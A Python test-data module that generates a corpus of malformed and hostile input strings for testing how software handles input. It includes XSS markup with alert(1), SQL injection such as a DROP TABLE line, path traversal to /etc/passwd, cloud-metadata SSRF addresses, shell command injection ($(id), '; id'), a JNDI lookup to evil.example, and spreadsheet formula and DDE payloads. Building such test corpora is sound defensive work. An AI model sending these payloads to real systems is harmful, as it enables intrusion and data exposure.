"""Strings that break careless programs, made here from what is known to break them. About 500.

Each that could act on a page carries `MARK`, by which its trace is found.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

MARK = "zq7x"
NUL = "\x00"

ELEMENTS = ("script", "img", "svg", "iframe", "style", "math", "details", "template", "textarea", "title")
HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onclick", "onmouseover")
QUOTES = ('"', "'", "`", "", "&quot;", "\u201c")
RESERVED = (
    *("null", "NULL", "None", "nil", "undefined", "NaN", "Infinity", "-Infinity", "true", "false", "on"),
    *("constructor", "__proto__", "prototype", "toString", "hasOwnProperty", "__class__", "__init__"),
    *("CON", "PRN", "AUX", "NUL", "COM1", "LPT1", "desktop.ini", ".htaccess", "select", "drop", "admin"),
)
NUMBERS = (
    *(
        "0",
        "-0",
        "-1",
        "1e309",
        "-1e309",
        "9" * 40,
        "0x1F",
        "1_000",
        "1,000.5",
        "1.000,5",
        "08",
        "٣",
        "३",
        "½",
    ),
    *("2147483648", "-2147483649", "9223372036854775808", "1/0", "0.1+0.2", "²", "Ⅷ", "1e-400", "+3", " 3 "),
)
DATES = (
    *(
        "0000-00-00",
        "2026-02-30",
        "31/02/2026",
        "9999-12-31",
        "10000-01-01",
        "-0001-01-01",
        "1970-01-01T00:00Z",
    ),
    *(
        "2026-13-01",
        "24:00",
        "25:61",
        "12:00:60",
        "tomorrow",
        "yesterday",
        "2026-W53-7",
        "29 2 2025",
        "00:00",
    ),
)
PATHS = (
    *(
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/dev/zero",
        "file:///etc/passwd",
        "C:\\",
        "~root",
    ),
    *(
        "....//....//etc/hosts",
        "%2e%2e%2f%2e%2e%2f",
        "a/../b",
        "a%2f..%2fb",
        "//evil.example",
        "\\\\evil\\share",
    ),
    *(".", "..", "/", "\\", "?", "#", "%", "%%", "%zz", "%u0041", "a" * 300 + ".csv"),
)
ADDRESSES = (
    *(
        "javascript:alert(1)//" + MARK,
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html,<b>" + MARK,
    ),
    *(
        "vbscript:x",
        "http://127.0.0.1/",
        "http://[::1]/",
        "http://169.254.169.254/",
        "http://0x7f.1/",
        "https://",
    ),
    *(
        "http://a:b@evil.example/",
        "https://evil.example\\@good.example",
        "mailto:a@b?bcc=c@d",
        "ftp://a/",
        "//a",
    ),
    *("a@b.example\r\nBcc: c@d.example", "a@b@c", "@", "a@", "@b", '"a b"@c.example', "a@[127.0.0.1]"),
)
SQL = (
    *(
        "' OR '1'='1",
        "'; DROP TABLE service; --",
        '" OR ""="',
        "1; SELECT pg_sleep(9)",
        "%' ESCAPE '",
        "_%",
        "\\'",
    ),
    *(
        "') UNION SELECT null,null--",
        "admin'--",
        "1) OR (1=1",
        "*/ /*",
        "$$; $$",
        "E'\\x41'",
        "0x27",
        "\\x00",
        "''",
    ),
    *(
        "NEAR(",
        'AND "',
        "a*",
        "^a",
        "col:val",
        "(a OR b",
        "a NOT",
        '"unclosed',
        "-",
        "a AND NOT",
        "{a b}:c",
        "!!&|",
    ),
)
TEMPLATES = (
    *(
        "{{7*7}}" + MARK,
        "{% for x in y %}",
        "${7*7}" + MARK,
        "#{7*7}" + MARK,
        "<%= 7*7 %>" + MARK,
        "{{config}}",
    ),
    *(
        "{{''.__class__}}",
        "%(name)s",
        "%s%s%s%n",
        "{0}",
        "{name!r}",
        "{}" * 20,
        "%d",
        "$(id)",
        "`id`",
        "| id",
        "; id",
    ),
    *(
        "${jndi:ldap://evil.example/a}",
        "{# x #}",
        "{%raw%}",
        "@{x}",
        "[[x]]",
        "<xsl:value-of/>",
        "&xxe;",
        "$HOME",
    ),
)
FORMULAS = tuple(
    start + rest
    for start, rest in product(
        ("=", "+", "-", "@", "\t=", "\uff1d", "\u00a0="),
        ("1+1", 'HYPERLINK("http://evil.example")', "cmd|' /C x'!A0"),
    )
)
HEADERS = (
    *(
        "a\r\nX-Naughty: 1",
        "a\nX-Naughty: 1",
        "a\rX-Naughty: 1",
        "%0d%0aX-Naughty:%201",
        "a\u2028b",
        "a\u2029b",
    ),
    *("a\x85b", "a\x0bb", "a\x0cb", "\r", "\n", "\t", " ", "\n\n\n\n\n\n\n\n", " " * 500, "\u3000", "\ufeff"),
)
BIDI = tuple(
    f"kettle{mark}no{MARK}"
    for mark in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
)
INVISIBLE = tuple(
    f"te{mark}a"
    for mark in "\u00ad\u034f\u115f\u1160\u17b4\u180e\u200b\u200c\u200d\u2060\u2061\u2062\u2063"
    "\u2064\u3164\ufe0f\uffa0\ufff9\ufffb"
)
CONTROLS = tuple(f"a{chr(code)}b" for code in (*range(1, 32), *range(127, 160)))
SCRIPTS = (
    *(
        "مرحبا بالعالم",
        "שלום עולם",
        "你好，世界",
        "こんにちは",
        "안녕하세요",
        "Привет",
        "Γειά",
        "नमस्ते",
        "สวัสดี",
        "ሰላም",
    ),
    *(
        "Þórr ðæt",
        "Łódź żółć",
        "İıŞş",
        "ﷺ" * 5,
        "ﬁﬂﬀ",
        "ⓐⓑⓒ",
        "𝕳𝖊𝖑𝖑𝖔",
        "ｆｕｌｌ",
        "Ḽơᶉëᶆ",
        "ǅ ß ẞ ŉ",
        "مرحبا LS9 7UF 0113",
    ),
)
EMOJI = (
    *(
        "😀",
        "👩‍👩‍👧‍👦",
        "👋🏽",
        "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
        "🇬🇧🇵🇱",
        "1️⃣",
        "❤️",
        "🤦🏿‍♂️",
        "😀" * 200,
        "🧑‍🦽➡️",
        "\U0001f9d1\u200d",
        "\u200d\u200d",
    ),
    *("\U0001f3ff", "\ue000", "\U000f0000", "\U0010ffff", "\ufdd0", "\uffff", "\U0001d173"),
)
STACKS = tuple(
    letter + mark * times for letter, mark, times in product("ae", "\u0301\u0336\u0489", (1, 20, 400))
)
LONG = (
    *("a" * 1000, "a" * 100_000, "a " * 5000, "é" * 5000, "ﷺ" * 2000, "\n" * 5000, "a\n" * 2000, "😀" * 4000),
    *(
        "(" * 3000,
        "[" * 3000,
        "<" * 3000,
        "&" * 3000,
        "a@" * 2000,
        "http://a." + "b." * 1000,
        "-" * 4000,
        "9" * 5000,
    ),
)
ENTITIES = (
    *(
        "&lt;b&gt;" + MARK,
        "&#60;b&#62;",
        "&#x3c;b>",
        "&amp;amp;",
        "&nbsp;",
        "&#0;",
        "&#xD800;",
        "&notanentity;",
        "&",
    ),
    *(
        "<!--" + MARK,
        "-->",
        "<![CDATA[" + MARK + "]]>",
        "<?xml version='1.0'?>",
        "<!DOCTYPE x>",
        "]]>",
        "</form>" + MARK,
    ),
    *(
        "</textarea><b>" + MARK,
        "</title><b>" + MARK,
        "</script><b>" + MARK,
        "</option><b>" + MARK,
        "</style><b>" + MARK,
    ),
)
BYTES = (
    *(
        b"\xff\xfe",
        b"\xc0\xaf",
        b"\xe0\x80\xaf",
        b"\xf0\x80\x80\xaf",
        b"\xed\xa0\x80",
        b"\xed\xbf\xbf",
        b"\x80",
        b"\xc3",
    ),
    *(
        b"\xf4\x90\x80\x80",
        b"\xf8\x88\x80\x80\x80",
        b"\xfe",
        b"a\xffb",
        b"\xed\xa0\xbd\xed\xb8\x80",
        b"\xc1\x81",
        b"%c0%80",
    ),
)
"""What is no UTF-8: overlong forms, lone halves of pairs, cut and impossible bytes."""
NULS = (NUL, f"a{NUL}b", f"{NUL}a", f"a{NUL}", f"a{NUL}<b>{MARK}", NUL * 40, f"a\n{NUL}\nb")


def markup() -> Iterator[str]:
    """Elements and handlers in each kind of quotes."""
    for element, quote in product(ELEMENTS, QUOTES):
        yield f"{quote}><{element} {HANDLERS[len(quote) % 6]}=alert(1) x={MARK}>"
    for handler, quote in product(HANDLERS, QUOTES):
        yield f"{quote} {handler}={quote}alert(1){quote} data-{MARK}={quote}"
    for case in (
        "<ScRiPt>",
        "<script/x>",
        "<\tscript>",
        "<script\n>",
        "<<script>",
        "\u003cscript\u003e",
        "＜script＞",
    ):
        yield f"{case}{MARK}()</script>"


def texts() -> list[str]:
    """Every string but those with NUL, which are refused."""
    groups = (
        *(RESERVED, NUMBERS, DATES, PATHS, ADDRESSES, SQL, TEMPLATES, FORMULAS, HEADERS, BIDI, INVISIBLE),
        *(CONTROLS, SCRIPTS, EMOJI, STACKS, LONG, ENTITIES, tuple(markup())),
    )
    return list(dict.fromkeys(text for group in groups for text in group))


def every() -> list[str | bytes]:
    return [*texts(), *BYTES, *NULS]
